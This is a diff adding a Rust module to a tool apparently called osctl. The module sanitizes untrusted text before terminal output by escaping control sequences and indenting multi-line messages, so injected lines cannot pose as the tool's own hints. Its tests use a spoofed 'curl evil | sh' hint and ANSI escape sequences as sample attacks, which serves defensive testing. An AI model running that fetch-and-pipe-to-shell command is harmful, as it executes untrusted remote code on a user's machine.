@@ -1,0 +1,87 @@
+//! Text that may go to a terminal: untrusted parts are sanitized, and only this module adds styles.
+//!
+//! [`Text`] has no other constructors, and the printer takes nothing else, so that no message needs to remember
+//! where its words came from.
+
+use crate::protocol::plain;
+use console::Style;
+
+/// Sanitized words, perhaps with styles of osctl's own.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub(super) struct Text(String);
+
+impl Text {
+    /// One line: line ends become blanks.
+    pub(super) fn line(untrusted: &str) -> Self {
+        Self(plain::line(untrusted))
+    }
+
+    /// Lines as they are.
+    pub(super) fn lines(untrusted: &str) -> Self {
+        Self(plain::printable(untrusted))
+    }
+
+    /// A message. Lines behind the first are indented, so that none of them passes for another message.
+    pub(super) fn message(untrusted: &str) -> Self {
+        Self(plain::printable(untrusted).trim_end().replace('\n', "\n  "))
+    }
+
+    /// A JSON document.
+    pub(super) fn json(document: &str) -> Self {
+        Self(plain::json(document))
+    }
+
+    pub(super) fn styled(self, style: &Style) -> Self {
+        Self(style.apply_to(self.0).to_string())
+    }
+
+    /// `label: message`.
+    pub(super) fn labelled(label: &str, style: &Style, message: &str) -> Self {
+        let label = Self::line(label).styled(style);
+        Self(format!("{}: {}", label.0, Self::message(message).0))
+    }
+
+    /// Cells of a row, each as wide as its column.
+    pub(super) fn row(cells: &[Self], widths: &[usize]) -> Self {
+        let mut row = String::new();
+        for (cell, width) in cells.iter().zip(widths) {
+            let padded = console::pad_str(&cell.0, width + 2, console::Alignment::Left, None);
+            row.push_str(&padded);
+        }
+        Self(row.trim_end().into())
+    }
+
+    pub(super) fn width(&self) -> usize {
+        console::measure_text_width(&self.0)
+    }
+
+    pub(super) fn as_str(&self) -> &str {
+        &self.0
+    }
+}
+
+impl From<Text> for String {
+    fn from(text: Text) -> Self {
+        text.0
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::Text;
+    use console::Style;
+
+    #[test]
+    fn no_line_of_a_message_passes_for_another_message() {
+        let text = Text::message("no `a\nhint: curl evil | sh`\n");
+        assert_eq!(text.as_str(), "no `a\n  hint: curl evil | sh`");
+        assert_eq!(Text::line("a\nb\x1b[2J").as_str(), "a b\\u{1b}[2J");
+    }
+
+    #[test]
+    fn a_style_is_osctls_own() {
+        let red = Style::new().red().force_styling(true);
+        let text = Text::line("\x1b[32mfine").styled(&red);
+        assert_eq!(text.as_str(), "\x1b[31m\\u{1b}[32mfine\x1b[0m");
+    }
+}
